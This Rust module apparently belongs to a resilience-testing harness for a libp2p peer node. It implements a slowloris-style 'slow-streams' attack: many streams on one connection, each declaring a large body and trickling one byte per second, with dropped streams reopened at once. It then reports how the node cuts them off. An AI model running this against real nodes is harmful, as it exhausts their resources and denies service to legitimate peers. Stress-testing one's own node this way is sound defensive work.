//! `slow-streams`: one connection holding many request streams, each of which
//! declares a large body and then writes one byte of it a second. A stream T
//! drops is opened again at once, so the connection keeps its streams open
//! for the whole run.

use std::collections::HashMap;
use std::io;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use futures::future::BoxFuture;
use futures::prelude::*;
use hdrhistogram::Histogram;
use peer_node::libp2p::request_response::{self, OutboundRequestId, ProtocolSupport};
use peer_node::libp2p::swarm::SwarmEvent;
use peer_node::libp2p::{PeerId, StreamProtocol, Swarm, SwarmBuilder, noise, tcp, yamux};
use peer_node::net;
use peer_node::net::codec::PROTOCOL;

use super::{Attack, Options, Report, Target, dial, fresh_identity};

/// Time between two bytes of a body.
const TRICKLE: Duration = Duration::from_secs(1);

/// A client codec whose request is a frame header declaring that many bytes,
/// followed by one byte every [`TRICKLE`] for as long as the stream lasts.
#[derive(Debug, Clone, Copy, Default)]
struct Trickle;

impl request_response::Codec for Trickle {
    type Protocol = StreamProtocol;
    type Request = u32;
    type Response = Vec<u8>;

    async fn read_request<T>(&mut self, _: &StreamProtocol, _: &mut T) -> io::Result<u32>
    where
        T: AsyncRead + Unpin + Send,
    {
        Err(io::Error::other("the attacker takes no requests"))
    }

    async fn read_response<T>(&mut self, _: &StreamProtocol, io: &mut T) -> io::Result<Vec<u8>>
    where
        T: AsyncRead + Unpin + Send,
    {
        let mut bytes = Vec::new();
        io.read_to_end(&mut bytes).await?;
        Ok(bytes)
    }

    async fn write_request<T>(&mut self, _: &StreamProtocol, io: &mut T, len: u32) -> io::Result<()>
    where
        T: AsyncWrite + Unpin + Send,
    {
        io.write_all(&len.to_be_bytes()).await?;
        io.flush().await?;
        for _ in 0..len {
            tokio::time::sleep(TRICKLE).await;
            io.write_all(b"x").await?;
            io.flush().await?;
        }
        io.close().await
    }

    async fn write_response<T>(
        &mut self,
        _: &StreamProtocol,
        _: &mut T,
        _: Vec<u8>,
    ) -> io::Result<()>
    where
        T: AsyncWrite + Unpin + Send,
    {
        Err(io::Error::other("the attacker sends no responses"))
    }
}

/// The attack prepared: one TCP connection to T.
pub(super) struct SlowStreams {
    swarm: Swarm<request_response::Behaviour<Trickle>>,
    peer: PeerId,
    streams: usize,
    declared: u32,
}

impl SlowStreams {
    pub(super) async fn prepare(target: &Target, options: &Options) -> Result<Self> {
        let key = net::keypair(fresh_identity().secret_bytes());
        // Its own requests never time out and it keeps them all open: only T
        // ends them.
        let config = request_response::Config::default()
            .with_request_timeout(Duration::from_secs(24 * 3600))
            .with_max_concurrent_streams(options.streams + 8);
        let mut swarm = SwarmBuilder::with_existing_identity(key)
            .with_tokio()
            .with_tcp(
                tcp::Config::default().nodelay(true),
                noise::Config::new,
                yamux::Config::default,
            )?
            .with_behaviour(|_| {
                request_response::Behaviour::with_codec(
                    Trickle,
                    [(PROTOCOL, ProtocolSupport::Outbound)],
                    config,
                )
            })?
            .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(3600)))
            .build();
        let peer = dial(&mut swarm, target.tcp.clone())
            .await
            .context("the attacker's dial")?;
        Ok(Self {
            swarm,
            peer,
            streams: options.streams,
            declared: options.declared_bytes,
        })
    }
}

impl Attack for SlowStreams {
    fn run(mut self: Box<Self>, until: Instant) -> BoxFuture<'static, Result<Report>> {
        Box::pin(async move {
            let mut opened: HashMap<OutboundRequestId, Instant> = HashMap::new();
            let mut lifetimes = Histogram::<u64>::new(3)?;
            let (mut answered, mut first_drop, mut closed) = (0u64, None, false);
            let mut total = 0u64;
            let end = tokio::time::sleep_until(until.into());
            tokio::pin!(end);
            loop {
                while opened.len() < self.streams && !closed {
                    let id = self
                        .swarm
                        .behaviour_mut()
                        .send_request(&self.peer, self.declared);
                    opened.insert(id, Instant::now());
                    total += 1;
                }
                let event = tokio::select! {
                    () = &mut end => break,
                    event = self.swarm.select_next_some() => event,
                };
                match event {
                    SwarmEvent::Behaviour(request_response::Event::OutboundFailure {
                        request_id,
                        error,
                        ..
                    }) => {
                        if let Some(at) = opened.remove(&request_id) {
                            lifetimes.record(at.elapsed().as_millis() as u64)?;
                        }
                        first_drop.get_or_insert_with(|| error.to_string());
                    }
                    SwarmEvent::Behaviour(request_response::Event::Message {
                        message: request_response::Message::Response { request_id, .. },
                        ..
                    }) => {
                        opened.remove(&request_id);
                        answered += 1;
                    }
                    SwarmEvent::ConnectionClosed { .. } => {
                        closed = true;
                        opened.clear();
                    }
                    _ => {}
                }
            }
            let mut r = Report::default();
            r.add("streams", self.streams)
                .add("declared_bytes", self.declared)
                .add("opened", total)
                .add("dropped_by_node", lifetimes.len())
                .add("open_at_end", opened.len())
                .add("answered", answered);
            if !lifetimes.is_empty() {
                r.add(
                    "dropped_after_s_min_p50_max",
                    format!(
                        "{:.1}/{:.1}/{:.1}",
                        lifetimes.min() as f64 / 1e3,
                        lifetimes.value_at_quantile(0.5) as f64 / 1e3,
                        lifetimes.max() as f64 / 1e3
                    ),
                );
            }
            if let Some(why) = first_drop {
                r.add("first_drop", format!("{why:?}"));
            }
            if closed {
                r.add("connection_closed_by_node", "yes");
            }
            Ok(r)
        })
    }
}
